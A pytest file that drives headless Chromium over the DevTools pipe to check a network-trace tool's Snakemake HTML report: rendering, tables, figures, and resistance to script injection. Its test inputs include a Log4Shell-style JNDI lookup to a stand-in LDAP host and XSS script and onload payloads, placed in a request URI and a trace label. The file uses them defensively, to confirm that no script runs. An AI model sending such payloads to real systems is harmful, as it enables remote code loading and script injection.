"""The Snakemake report, opened in headless Chromium as a reader would open it.

Runs the pipeline on a trace sheet with the bundled browsing trace and a small scan trace whose
HTTP request URI carries script and builds `results/report.html`, both through the command line
(whose console is checked too), and drives Debian's chromium over the DevTools protocol
(`--remote-debugging-pipe`: JSON messages on file descriptors 3 and 4, so no websocket library
and no browser download). Nothing is installed here; CI installs chromium with apt (see
.ci/run).
"""

import base64
import contextlib
import csv
import fcntl
import gzip
import json
import os
import re
import select
import shutil
import subprocess
import tempfile
import time
from pathlib import Path

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
from conftest import REPO, copy_workflow, run_snakemake, tracelab

from tracelab.core.html import PAGE_BYTES, html_table, write_html

pytestmark = pytest.mark.browser

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_FLAGS = (
    "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
    "--disable-background-networking", "--disable-component-update", "--disable-sync",
    "--disable-quic", "--remote-debugging-pipe",
)
CATEGORIES = {"Validation", "Per trace", "Comparison", "Security", "Robust features"}
# Script in a request URI: a <script> element, an event handler, and a way out of the <script>
# blocks in which the report keeps its data. Any of them running opens an alert dialog.
XSS_MARK = "tracelab-xss"
HOSTILE_URI = (
    "/?x=${jndi:ldap://198.18.0.2:1389/a}"
    f"</script><script>alert('{XSS_MARK}')</script><svg/onload=alert('{XSS_MARK}')>"
)
HOSTILE_ROWS = 300  # enough of the bundled scan for its HTTP requests and a few windows
TIMEOUT_S = 60


class DevTools:
    """Chromium's DevTools protocol over the pipe Chromium opens with --remote-debugging-pipe."""

    def __init__(self, profile_dir: Path, log_path: Path):
        commands_read, self._commands = os.pipe()
        self._replies, replies_write = os.pipe()
        # Chromium reads commands on fd 3 and writes replies on fd 4. Copies above 4 first, so
        # that placing one pipe end on 3 or 4 cannot overwrite the other.
        child_ends = [
            fcntl.fcntl(fd, fcntl.F_DUPFD_CLOEXEC, 5) for fd in (commands_read, replies_write)
        ]
        os.close(commands_read)
        os.close(replies_write)

        def place_pipe_ends():
            os.dup2(child_ends[0], 3)
            os.dup2(child_ends[1], 4)

        with open(log_path, "w") as log:
            self.process = subprocess.Popen(
                [str(CHROMIUM), *CHROMIUM_FLAGS, f"--user-data-dir={profile_dir}", "about:blank"],
                stdin=subprocess.DEVNULL, stdout=log, stderr=log,
                close_fds=False, preexec_fn=place_pipe_ends,
            )
        for fd in child_ends:
            os.close(fd)
        self._buffer = b""
        self._last_id = 0
        self.events = []

    def send(self, method, session=None, **params):
        self._last_id += 1
        message = {"id": self._last_id, "method": method, "params": params}
        if session:
            message["sessionId"] = session
        os.write(self._commands, json.dumps(message).encode() + b"\0")
        deadline = time.monotonic() + TIMEOUT_S
        while True:
            reply = self._receive(deadline)
            if reply.get("id") == self._last_id:
                if "error" in reply:
                    raise RuntimeError(f"{method}: {reply['error']}")
                return reply["result"]
            self._event(reply, session)

    def wait_for(self, method, session, timeout_s=TIMEOUT_S):
        deadline = time.monotonic() + timeout_s
        while not any(event["method"] == method for event in self.events):
            self._event(self._receive(deadline), session)

    def _event(self, message, session):
        self.events.append(message)
        # A dialog blocks the page until answered; record it (it fails the test) and dismiss it.
        if message.get("method") == "Page.javascriptDialogOpening":
            self.send("Page.handleJavaScriptDialog", session=session, accept=False)

    def _receive(self, deadline):
        while b"\0" not in self._buffer:
            left = deadline - time.monotonic()
            if left <= 0:
                raise TimeoutError("no message from chromium in time")
            if select.select([self._replies], [], [], left)[0]:
                chunk = os.read(self._replies, 1 << 20)
                if not chunk:
                    raise EOFError("chromium closed the DevTools pipe")
                self._buffer += chunk
        message, self._buffer = self._buffer.split(b"\0", 1)
        return json.loads(message)

    def evaluate(self, session, expression):
        result = self.send(
            "Runtime.evaluate", session=session, expression=expression,
            returnByValue=True, awaitPromise=True,
        )
        if "exceptionDetails" in result:
            raise AssertionError(f"{expression!r} threw: {result['exceptionDetails']}")
        return result["result"].get("value")

    def close(self):
        try:
            self.send("Browser.close")
            self.process.wait(15)
        except (OSError, RuntimeError, TimeoutError, EOFError, subprocess.TimeoutExpired):
            self.process.kill()
            self.process.wait()
        finally:
            os.close(self._commands)
            os.close(self._replies)


def write_hostile_trace(path):
    """The bundled scan's first rows as a Wireshark CSV export, its first HTTP request's URI
    replaced by HOSTILE_URI."""
    with gzip.open(REPO / "data" / "log4j_scan.csv.gz", "rt", newline="") as source:
        rows = list(csv.reader(source))[: HOSTILE_ROWS + 1]
    request = next(row for row in rows if row[4] == "HTTP" and row[6].startswith("GET "))
    request[6] = f"GET {HOSTILE_URI} HTTP/1.1 "
    with gzip.open(path, "wt", newline="") as export:
        csv.writer(export, quoting=csv.QUOTE_ALL, lineterminator="\n").writerows(rows)


def require_chromium():
    if not CHROMIUM.exists():
        # CI installs chromium: there its absence is a failure, not a skip.
        (pytest.fail if os.environ.get("CI") else pytest.skip)(
            f"{CHROMIUM} not found (Debian package chromium)"
        )


def checkout_with_traces(tmp_path_factory, name, hostile_label="scan"):
    """A copy of the repo whose trace sheet holds the hostile scan and the bundled browsing."""
    checkout = tmp_path_factory.mktemp(name) / "tracelab"
    copy_workflow(checkout)
    write_hostile_trace(checkout / "data" / "hostile_scan.csv.gz")
    with open(checkout / "config" / "traces.tsv", "w", newline="") as sheet:
        rows = csv.writer(sheet, delimiter="\t", lineterminator="\n")
        rows.writerow(["trace", "path", "format", "label", "timezone", "description"])
        rows.writerow(["hostile_scan", "data/hostile_scan.csv.gz", "wireshark_csv",
                       hostile_label, "UTC", "scan whose URI carries script"])
        rows.writerow(["web_browsing", "data/web_browsing.csv.gz", "wireshark_csv",
                       "normal", "UTC", "bundled browsing"])
    return checkout


@contextlib.contextmanager
def opened(report_html):
    """The report loaded in a fresh Chromium profile: (browser, session)."""
    browser_dir = Path(tempfile.mkdtemp(prefix="tracelab-chromium-"))
    browser = DevTools(browser_dir / "profile", browser_dir / "chromium.log")
    try:
        target = browser.send("Target.createTarget", url="about:blank")["targetId"]
        session = browser.send("Target.attachToTarget", targetId=target, flatten=True)["sessionId"]
        for domain in ("Page", "Runtime", "Log", "Network"):
            browser.send(f"{domain}.enable", session=session)
        browser.send("Page.navigate", session=session, url=report_html.as_uri())
        browser.wait_for("Page.loadEventFired", session)
        yield browser, session
    finally:
        browser.close()
        shutil.rmtree(browser_dir, ignore_errors=True)


@pytest.fixture(scope="module")
def commands(tmp_path_factory):
    """The pipeline and its report made as a reader makes them: `tracelab run` from a subfolder
    of the checkout, then `tracelab report` (checkout, the two commands' outcomes)."""
    checkout = checkout_with_traces(tmp_path_factory, "report")
    # The whole pipeline: as long as conftest's bundled run may take on a busy machine.
    run = tracelab("run", cwd=checkout / "config", timeout=1800)
    assert run.returncode == 0, run.stderr[-3000:]
    made = tracelab("report", cwd=checkout)
    assert made.returncode == 0, made.stderr[-3000:]
    return checkout, run, made


@pytest.fixture(scope="module")
def report(commands):
    return commands[0]


def test_run_then_report(commands):
    checkout, run, made = commands
    assert (checkout / "results/compare/summary.csv").exists()
    assert "Provided cores: " in run.stderr
    # A clean console: no warning under Python's default filters (Snakemake's TBDString
    # RuntimeWarning came from resource functions reading input.size_mb).
    assert not re.search(r"\w+Warning\b", made.stdout + made.stderr), made.stderr


@pytest.fixture(scope="module")
def page(report):
    require_chromium()
    with opened(report / "results" / "report.html") as (browser, session):
        # The report is a React app: it has rendered once its navigation links are there.
        browser.evaluate(session, """new Promise((resolve, reject) => {
            const started = Date.now();
            (function poll() {
                if (document.querySelector('#app a')) resolve(true);
                else if (Date.now() - started > 20000) reject(new Error('report did not render'));
                else setTimeout(poll, 100);
            })();
        })""")
        yield browser, session


def page_problems(browser):
    """Uncaught exceptions, console errors, failed loads and any dialog, as readable lines."""
    problems = []
    for event in browser.events:
        method, params = event.get("method"), event.get("params", {})
        if method == "Runtime.exceptionThrown":
            problems.append(f"exception: {params['exceptionDetails']}")
        elif method == "Runtime.consoleAPICalled" and params["type"] in ("error", "assert"):
            problems.append(f"console.{params['type']}: {params['args']}")
        elif method == "Log.entryAdded" and params["entry"]["level"] == "error":
            problems.append(f"log: {params['entry']}")
        elif method == "Network.loadingFailed" and not params.get("canceled"):
            # A canceled load is a frame replaced by the next view opened, not a failure.
            problems.append(f"load failed: {params}")
        elif method == "Page.javascriptDialogOpening":
            problems.append(f"a script ran and opened a dialog: {params['message']!r}")
    return problems


def test_report_is_self_contained_and_loads_without_errors(page):
    browser, session = page
    requested = [
        event["params"]["request"]["url"] for event in browser.events
        if event.get("method") == "Network.requestWillBeSent"
    ]
    assert requested and all(url.startswith(("file:", "data:")) for url in requested), requested
    assert page_problems(browser) == []


def test_report_has_every_category_comparison_and_caption(page, report):
    browser, session = page
    assert set(browser.evaluate(session, "Object.keys(categories)")) == CATEGORIES
    in_report = set(browser.evaluate(session, "Object.keys(results)"))
    comparisons = {
        str(path.relative_to(report)) for path in (report / "results" / "compare").iterdir()
    }
    assert comparisons - in_report == set()
    uncaptioned = browser.evaluate(
        session,
        "Object.entries(results).filter(([path, r]) => !r.caption.trim()).map(([path]) => path)",
    )
    assert uncaptioned == []


def test_every_figure_is_shown(page, report):
    browser, session = page
    figures = sorted(
        str(path.relative_to(report)) for path in (report / "results").rglob("*.png")
    )
    in_report = browser.evaluate(
        session,
        "Object.keys(results).filter(p => results[p].mime_type === 'image/png').sort()",
    )
    assert in_report == figures
    for figure in figures:
        # What the report's own "view" button does, then wait for the picture to be decoded.
        size = browser.evaluate(session, f"""new Promise((resolve, reject) => {{
            const path = {json.dumps(figure)};
            app.setView({{content: "img", contentPath: results[path].data_uri, resultPath: path}});
            const started = Date.now();
            (function poll() {{
                const img = document.querySelector(
                    '#app img[src="' + results[path].data_uri + '"]');
                if (img && img.complete && img.naturalWidth > 0)
                    resolve([img.naturalWidth, img.naturalHeight]);
                else if (Date.now() - started > 10000) reject(new Error(path + ' not shown'));
                else setTimeout(poll, 50);
            }})();
        }})""")
        assert min(size) > 100, (figure, size)
    assert page_problems(browser) == []


def frame_world(browser, session, data_uri):
    """An execution context in the loaded frame that shows `data_uri`. The report puts each
    HTML result in a frame of its own (a data: URI, another origin), so it is read through the
    DevTools protocol, in a world of its own; DOM events dispatched there reach the page's
    script."""
    deadline = time.monotonic() + TIMEOUT_S
    while time.monotonic() < deadline:
        tree = browser.send("Page.getFrameTree", session=session)["frameTree"]
        frames = [child["frame"]["id"] for child in tree.get("childFrames", [])
                  if child["frame"]["url"] == data_uri]
        if frames:
            world = browser.send("Page.createIsolatedWorld", session=session,
                                 frameId=frames[0])["executionContextId"]
            if in_frame(browser, session, world, "document.readyState === 'complete'"):
                return world
        time.sleep(0.1)
    raise AssertionError(f"{data_uri[:80]}… was not shown")


def in_frame(browser, session, world, expression):
    result = browser.send("Runtime.evaluate", session=session, contextId=world,
                          expression=expression, returnByValue=True)
    if "exceptionDetails" in result:
        raise AssertionError(f"{expression!r} threw: {result['exceptionDetails']}")
    return result["result"].get("value")


def shown(browser, session, path):
    """The frame world of the HTML result `path`, opened as the report's menu opens it."""
    data_uri = browser.evaluate(session, f"results[{json.dumps(path)}].data_uri")
    browser.evaluate(session, f"""app.setView({{content: "html", contentPath:
        results[{json.dumps(path)}].data_uri, resultPath: {json.dumps(path)}}})""")
    return frame_world(browser, session, data_uri)


def rendered_text(browser, session, path):
    """The text a reader sees when the report shows the HTML result `path`."""
    return in_frame(browser, session, shown(browser, session, path), "document.body.innerText")


# A reader's hands on the tables of a page: `probe.use(t)` picks table t, then each call
# clicks, types or reads what is shown (cell texts of the rows on screen).
TABLE_PROBE = """globalThis.probe = {
  table: null,
  use(table) { this.table = table; return true; },
  heads() { return Array.from(this.table.tHead.rows[0].cells, (cell) => cell.textContent); },
  sort(name) { this.table.tHead.rows[0].cells[this.heads().indexOf(name)].click(); },
  tools() { return this.table.previousElementSibling; },
  status() { return this.tools().querySelector("span").textContent; },
  type(text) {
    const box = this.tools().querySelector("input");
    box.value = text;
    box.dispatchEvent(new Event("input"));
  },
  button(label) {
    return Array.from(this.tools().querySelectorAll("button"))
      .find((button) => button.textContent.includes(label));
  },
  rows() { return Array.from(this.table.tBodies[0].rows,
                             (row) => Array.from(row.cells, (cell) => cell.textContent)); },
  everyRow() {  // page by page, as a reader pages through
    while (!this.button("previous").disabled) this.button("previous").click();
    const rows = this.rows();
    while (!this.button("next").disabled) {
      this.button("next").click();
      rows.push(...this.rows());
    }
    return rows;
  },
};"""


def probe(browser, session, world, call):
    return in_frame(browser, session, world, f"probe.{call}")


def framed(page_path: Path, wrapper: Path) -> str:
    """`page_path` in a frame of `wrapper` as the report shows it (a base64 data: URI)."""
    data_uri = ("data:text/html;charset=utf8;filename=t.html;base64,"
                + base64.b64encode(page_path.read_bytes()).decode())
    wrapper.write_text(f'<!DOCTYPE html><iframe src="{data_uri}"></iframe>')
    return data_uri


def test_tables_show_their_numbers_in_the_page(page, report):
    """The trace comparison, each trace's page (summary, validation, statistics), the scan
    report and the feature table are shown in the page, with the traces' packet counts and
    durations as text (not as downloads)."""
    browser, session = page
    summaries = {
        trace: json.loads((report / "results" / "features" / trace / "summary.json").read_text())
        for trace in ("hostile_scan", "web_browsing")
    }
    comparison = rendered_text(browser, session, "results/compare/summary.html")
    for summary in summaries.values():
        packets, duration = f"{summary['packets']:,}", f"{summary['duration_s']:.4g}"
        assert packets in comparison and duration in comparison, (packets, duration)
        trace_page = rendered_text(
            browser, session, f"results/features/{summary['trace']}/statistics.html")
        assert packets in trace_page and duration in trace_page, (packets, duration)
        assert "passed" in trace_page and "Conversations" in trace_page
    assert "14,328" in comparison  # the bundled browsing trace, counted independently (tshark)
    scan = rendered_text(browser, session, "results/compare/scan_report.html")
    assert "198.18.0.2" in scan and "address_scan" in scan
    assert XSS_MARK in scan  # the hostile URI is shown, as text
    features = rendered_text(browser, session, "results/compare/features.html")
    assert "distinct_dst_hosts" in features and "KS D" in features
    assert page_problems(browser) == []


def test_parquet_is_a_download_not_text(page):
    browser, session = page
    types = browser.evaluate(session, """Object.fromEntries(Object.keys(results)
        .filter(p => p.endsWith('.parquet')).map(p => [p, results[p].mime_type]))""")
    assert types and set(types.values()) == {"application/vnd.apache.parquet"}, types


def test_script_in_a_uri_runs_nowhere(page):
    browser, session = page
    # The hostile URI did reach the report's embedded results (else this test would prove nothing).
    carriers = browser.evaluate(session, f"""Object.keys(results).filter(p => {{
        const data = results[p].data_uri;
        const bytes = atob(data.slice(data.indexOf('base64,') + 7));
        return bytes.includes({json.dumps(XSS_MARK)});
    }})""")
    assert carriers, "the hostile URI is in no result embedded in the report"
    # Open every result the report shows in the page (HTML in a frame), each until it has
    # loaded; downloads are not opened.
    shown = browser.evaluate(
        session, "Object.keys(results).filter(p => results[p].mime_type === 'text/html')"
    )
    assert "results/compare/scan_report.html" in shown
    for path in shown:
        rendered_text(browser, session, path)
    # Give any script a chance to run, then make sure none did.
    browser.evaluate(session, "new Promise(resolve => setTimeout(resolve, 500))")
    assert page_problems(browser) == []


def test_script_in_a_trace_label_runs_nowhere(tmp_path_factory):
    """The label is free text from the trace sheet and reaches the report through the jobs'
    params, which Snakemake embeds in a <script> block: it must be refused, or be inert."""
    require_chromium()
    checkout = checkout_with_traces(
        tmp_path_factory, "label",
        hostile_label=f"scan</script><script>alert('{XSS_MARK}')</script>",
    )
    dry_run = run_snakemake(checkout, "--dry-run", check=False)
    if dry_run.returncode != 0:
        refusal = dry_run.stdout + dry_run.stderr
        assert "label" in refusal, refusal[-3000:]
        return
    run_snakemake(checkout, "--cores", "2")
    run_snakemake(checkout, "--report", "results/report.html")
    with opened(checkout / "results" / "report.html") as (browser, session):
        browser.evaluate(session, "new Promise(resolve => setTimeout(resolve, 500))")
        assert page_problems(browser) == []


def table_page(tmp_path, frame, name="t.html"):
    """`frame` as tracelab writes a table page, framed as the report frames it: (wrapper,
    data URI of the page)."""
    write_html(tmp_path / name, "t", html_table(frame))
    return tmp_path / "wrapper.html", framed(tmp_path / name, tmp_path / "wrapper.html")


def test_a_table_sorts_filters_and_pages_in_the_browser(tmp_path):
    require_chromium()
    generator = np.random.default_rng(3)
    frame = pd.DataFrame({
        "address": [f"10.0.{i % 7}.{i}" for i in range(250)],
        "uri": [HOSTILE_URI if i % 50 == 0 else f"/p/{i}" for i in range(250)],
        "bytes": generator.integers(1, 10**7, 250),  # thousands separators: 1,234,567
    })
    wrapper, data_uri = table_page(tmp_path, frame)
    with opened(wrapper) as (browser, session):
        world = frame_world(browser, session, data_uri)
        in_frame(browser, session, world, TABLE_PROBE)
        probe(browser, session, world, "use(document.querySelector('table'))")
        assert probe(browser, session, world, "status()") == "rows 1\u2013100 of 250"
        assert probe(browser, session, world, "rows()") == [
            [row.address, row.uri, f"{row.bytes:,}"] for row in frame.head(100).itertuples()]
        for ascending in (True, False):  # the first click sorts up, the second down
            probe(browser, session, world, "sort('bytes')")
            expected = frame.sort_values("bytes", ascending=ascending, kind="stable")
            assert [row[2] for row in probe(browser, session, world, "rows()")] == [
                f"{value:,}" for value in expected["bytes"].head(100)]
        probe(browser, session, world, "button('next').click()")
        assert probe(browser, session, world, "status()") == "rows 101\u2013200 of 250"
        assert [row[0] for row in probe(browser, session, world, "rows()")] == (
            expected["address"].iloc[100:200].tolist())
        probe(browser, session, world, "type('10.0.3.')")  # a host's /24, sorted by bytes
        host = expected[expected["address"].str.contains("10.0.3.", regex=False)]
        assert [row[0] for row in probe(browser, session, world, "rows()")] == (
            host["address"].tolist())
        assert probe(browser, session, world, "status()") == (
            f"rows 1\u2013{len(host)} of {len(host)} matching (of 250)")
        probe(browser, session, world, "type('SCRIPT tracelab-xss')")  # every word, any case
        assert [row[1] for row in probe(browser, session, world, "rows()")] == [HOSTILE_URI] * 5
        probe(browser, session, world, "type('no such host')")
        assert probe(browser, session, world, "rows()") == []
        assert probe(browser, session, world, "status()") == "no row matches (of 250)"
        assert page_problems(browser) == []


def test_a_table_larger_than_a_report_page_keeps_the_rows_that_fit(tmp_path):
    """100,000 conversations: cut to the first rows that fit the report's frame (Chromium
    opens no larger data: URI), which load, sort and page."""
    require_chromium()
    frame = pd.DataFrame({"address_a": [f"10.{i // 65536}.{i // 256 % 256}.{i % 256}"
                                        for i in range(100_000)],
                          "bytes": np.arange(100_000) * 1013 % 999_983})
    wrapper, data_uri = table_page(tmp_path, frame)
    assert len((tmp_path / "t.html").read_bytes()) <= PAGE_BYTES
    assert len(data_uri) <= 2 * 1024 * 1024
    with opened(wrapper) as (browser, session):
        world = frame_world(browser, session, data_uri)
        in_frame(browser, session, world, TABLE_PROBE)
        probe(browser, session, world, "use(document.querySelector('table'))")
        kept = int(probe(browser, session, world, "status()").split(" of ")[1].replace(",", ""))
        assert 10_000 < kept < 100_000
        note = in_frame(browser, session, world, "document.querySelector('p.note').textContent")
        assert f"the first {kept:,} of these 100,000 rows" in note
        probe(browser, session, world, "sort('bytes')")
        probe(browser, session, world, "sort('bytes')")
        assert probe(browser, session, world, "rows()")[0][1] == f"{frame['bytes'][:kept].max():,}"
        assert page_problems(browser) == []


def test_the_report_sorts_and_filters_conversations(page, report):
    """What a student does: sort a trace's TCP conversations by bytes, then look for a host.
    Checked against conversations.parquet, read with pyarrow."""
    browser, session = page
    trace = report / "results" / "features" / "web_browsing"
    tcp = pq.read_table(trace / "conversations.parquet").to_pandas().query("type == 'TCP'")
    world = shown(browser, session, "results/features/web_browsing/statistics.html")
    in_frame(browser, session, world, TABLE_PROBE)
    assert probe(browser, session, world, """use((() => {
        let next = Array.from(document.querySelectorAll("h3"))
            .find((h) => h.textContent.startsWith("TCP conversations"));
        while (next.tagName !== "TABLE") next = next.nextElementSibling;
        return next;
    })())""")
    probe(browser, session, world, "sort('bytes')")
    probe(browser, session, world, "sort('bytes')")
    in_page = probe(browser, session, world, "everyRow()")
    column = probe(browser, session, world, "heads()").index("bytes")
    sizes = [int(row[column].replace(",", "")) for row in in_page]
    assert sizes == sorted(sizes, reverse=True) and sizes[0] == tcp["bytes"].max()
    host = tcp.loc[tcp["bytes"].idxmax(), "address_b"]
    probe(browser, session, world, f"type({json.dumps(host)})")
    matching = probe(browser, session, world, "everyRow()")
    assert matching == [row for row in in_page if host in "\t".join(row)]
    assert all(host in row for row in matching) and len(matching) < len(in_page)
    assert page_problems(browser) == []
